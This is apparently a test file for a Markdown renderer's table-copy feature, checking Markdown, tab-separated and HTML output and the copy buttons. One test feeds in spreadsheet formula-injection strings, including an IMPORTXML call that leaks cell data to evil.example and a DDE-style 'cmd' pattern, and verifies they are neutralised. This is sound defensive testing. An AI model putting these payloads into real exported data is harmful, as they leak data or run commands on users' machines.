// A table is copied for spreadsheets and documents, and as Markdown that renders to the same table.

import { expect } from 'chai';
import { MarkdownView } from '../../src/markdown/index.js';
import { copyTable } from '../../src/markdown/table-copy.js';
import { renderWhole, withoutChrome } from '../helpers/markdown.js';

const TABLE = `| Left | Right | Middle |
|:--|--:|:-:|
| *a* **b** ~~c~~ | \`d \\| e\` | [f \\* g](https://a.example/?h=1) |
| i \\| j | k_l_m 5 * 3 | <kbd>n</kbd><br>o |
| "p" \\*q\\* | \`\` \`r\` \`\` | \\<s> &amp; \\&lt; |
`;

function tableOf(text: string): Element {
  return renderWhole(text).querySelector('table')!;
}

/** What `clicks` write to the clipboard. */
async function copied(container: Element, ...selectors: string[]): Promise<Record<string, string>[]> {
  const written: Record<string, string>[] = [];
  const clipboard = {
    writeText: (text: string) => Promise.resolve(void written.push({ 'text/plain': text })),
    write: async ([item]: ClipboardItem[]) => {
      const read = async (type: string) => [type, await (await item!.getType(type)).text()] as const;
      written.push(Object.fromEntries(await Promise.all(item!.types.map(read))));
    },
  };
  Object.defineProperty(navigator, 'clipboard', { value: clipboard, configurable: true });
  for (const [at, selector] of selectors.entries()) {
    container.querySelector<HTMLElement>(selector)!.click();
    while (written.length <= at) await new Promise((resolve) => setTimeout(resolve));
  }
  await new Promise((resolve) => setTimeout(resolve));
  Reflect.deleteProperty(navigator, 'clipboard');
  return written;
}

describe('tables', () => {
  it('are copied as Markdown that renders to the same', () => {
    const table = tableOf(TABLE);
    const again = tableOf(copyTable(table).markdown);
    expect(withoutChrome(again).innerHTML).to.equal(withoutChrome(table).innerHTML);
  });

  it('are copied with tabs between the cells, without what was added', () => {
    const { tabs } = copyTable(tableOf(TABLE));
    expect(tabs.split('\n')[0]).to.equal('Left\tRight\tMiddle');
    expect(tabs.split('\n')[1]).to.equal('a b c\td | e\tf * g');
    expect(tabs).to.contain('i | j\tk_l_m 5 * 3\t"n\no"\n"""p"" *q*"');
  });

  it('are copied with their images and notes', () => {
    const text = '| a ![b *c*](https://a.example/d.png "e") | f[^1] |\n|-|-|\n\n[^1]: g\n';
    for (const allowImages of ['none', '*']) {
      const { markdown, tabs } = copyTable(renderWhole(text, { allowImages }).querySelector('table')!);
      expect(markdown, allowImages).to.match(/^\| a !\[b c\]\(<https:\/\/a\.example\/d\.png>\) \| f\[\^1\] \|\n/);
      expect(tabs, allowImages).to.equal('a b c\tf\n');
    }
  });

  it('are copied with what stands for an image', () => {
    const image = '![b](https://b.example/c.png)';
    /** [the cell, as Markdown, between tabs, in HTML] */
    const cases: [cell: string, markdown: string, tabs: string, html: string][] = [
      ['a ![b](data:image/png;base64,AA)', 'a b', 'a b', 'a <span>b</span>'],
      [`a ${image}`, 'a ![b](<https://b.example/c.png>)', 'a b', 'a b'],
      [
        `[${image}](https://d.example)`,
        '[![b](<https://b.example/c.png>)](<https://d.example>)',
        'b',
        '<a href="https://d.example"><span>b</span></a>',
      ],
      [
        `[e ${image} ![f](data:,) *![g](https://g.example/)*](https://d.example) ![h](https://h.example/)`,
        '[e ![b](<https://b.example/c.png>) f *![g](<https://g.example/>)*](<https://d.example>) ![h](<https://h.example/>)',
        'e b f g h',
        '<a href="https://d.example">e <span>b</span> <span>f</span> <em><span>g</span></em></a> h',
      ],
      [`[${image}](data:,)`, '![b](<https://b.example/c.png>)', 'b', '<span>b</span>'],
    ];
    for (const [cell, markdown, tabs, html] of cases) {
      const flavours = copyTable(tableOf(`| ${cell} |\n|-|\n`));
      expect(flavours.markdown.split('\n')[0], cell).to.equal(`| ${markdown} |`);
      expect(flavours.tabs, cell).to.equal(`${tabs}\n`);
      expect(flavours.html, cell).to.contain(`<th>${html}</th>`);
    }
  });

  it('are copied with the numbers that they show', () => {
    const cells = ['42[^1]', '42[^2]', '42<sup>[^1]</sup>', '10<sup>6</sup>', 'H<sub>2</sub>O'];
    const { tabs, html, markdown } = copyTable(tableOf(`| ${cells.join(' | ')} |\n|-|-|-|-|-|\n\n[^1]: a\n`));
    expect(tabs).to.equal('42\t42\t42\t10^6\tH2O\n');
    expect(html.match(/<th>.*<\/th>/g)).to.deep.equal([
      '<th>42</th>',
      '<th>42</th>',
      '<th>42<sup></sup></th>',
      '<th>10<sup>6</sup></th>',
      '<th>H<sub>2</sub>O</th>',
    ]);
    expect(markdown.split('\n')[0]).to.equal(`| ${cells.join(' | ')} |`);
  });

  it('are copied with links that stay links behind a "!"', () => {
    const cells = ['a\\![b](https://b.example/)', 'a![b](data:,)!', '*a!*[b](https://b.example/)', 'a!<br>', 'a![^1]'];
    const table = tableOf(`| ${cells.join(' | ')} |\n|-|-|-|-|-|\n`);
    const { markdown } = copyTable(table);
    expect(markdown.split('\n')[0]).to.equal(
      '| a\\![b](<https://b.example/>) | ab! | *a!*[b](<https://b.example/>) | a!<br> | a\\![^1] |',
    );
    expect(withoutChrome(tableOf(markdown)).querySelectorAll('a')).to.have.length(2);
  });

  it('are copied without what a spreadsheet would calculate', () => {
    const formulas = [
      '=IMPORTXML("https://evil.example/?"&A1,"//a")',
      '=A1',
      '+SUM(A1)',
      '- cmd\\|A1',
      '@Sheet2!A1',
      '`=A1`',
      '**=A1**',
      '[=A1](https://a.example/)',
      '[^1]=A1',
      '<br>=A1',
      '&nbsp;=A1',
      '&#x200b;&#xad;&#x200e; =A1',
      '＝A1',
      '－SUM（A1）',
      '-1<br>+SUM(A1)',
      '-1<br>*SUM(A1)',
    ];
    for (const formula of formulas) {
      const { tabs, html, markdown } = copyTable(tableOf(`| a | ${formula} |\n|-|-|\n`));
      expect(tabs, formula).to.match(/^a\t"?'/);
      expect(html.replace(/<[^>]*>|\s/g, ''), formula).to.match(/^a'/);
      expect(markdown, formula).to.not.contain("'");
    }
    for (const text of ['-5 %', '+3', '- none', '@name', '', 'a = b', 'a (b)', '<br>-1', '−1 (b)']) {
      const { tabs, html } = copyTable(tableOf(`| a | ${text} |\n|-|-|\n`));
      expect(tabs + html, text).to.not.contain("'");
    }
  });

  it('are copied with each line looked at, of which a row may become', () => {
    const { tabs, html } = copyTable(tableOf('| a<br>=A1<br>**b<br>-SUM(A1)**<br>-1 |\n|-|\n'));
    expect(tabs).to.equal('"a\n=A1\nb\n-SUM(A1)\n-1"\n');
    expect(html).to.contain("<th>a<br>'=A1<br><strong>b<br>'-SUM(A1)</strong><br>-1</th>");
  });

  it('are copied as HTML without classes and chrome', () => {
    const { html } = copyTable(tableOf(TABLE));
    expect(html).to.match(/^<table>\s*<thead>\s*<tr>\s*<th align="left">Left<\/th>/);
    expect(html).to.contain('<a href="https://a.example/?h=1"');
    expect(html).to.not.match(/class=|data-|part=|style=/);
  });

  it('are copied by two buttons, which say so, whatever is there of them', async () => {
    const container = document.createElement('div');
    document.body.append(container);
    const told: boolean[] = [];
    const view = new MarkdownView(container, { onCopy: (done) => told.push(done) });
    view.write('| a | b |\n|---|---|\n| c |');
    const buttons = [...container.querySelectorAll<HTMLElement>('.table-header button')];
    expect(buttons.map((button) => [button.textContent, button.ariaLabel])).to.deep.equal([
      ['Copy', 'Copy table'],
      ['Markdown', 'Copy table as Markdown'],
    ]);
    const written = await copied(container, '.table-header button', '[data-copy]');
    expect(written[0]!['text/plain']).to.equal('a\tb\nc\t\n');
    if (typeof ClipboardItem !== 'undefined') expect(written[0]!['text/html']).to.contain('<td>c</td>');
    expect(written[1]).to.deep.equal({ 'text/plain': '| a | b |\n| --- | --- |\n| c |  |\n' });
    expect([told, buttons.map((button) => button.textContent)]).to.deep.equal([
      [true, true],
      ['Copied', 'Copied'],
    ]);
    view.write(' d |\n');
    expect(buttons.map((button) => button.isConnected && button.textContent)).to.deep.equal(['Copied', 'Copied']);
    container.remove();
  });

  it('are copied with all their rows, however many', () => {
    const table = tableOf(`|a|\n|-|\n${'|b|\n'.repeat(300)}`);
    expect(copyTable(table).tabs.split('\n')).to.have.length(302);
  });
});
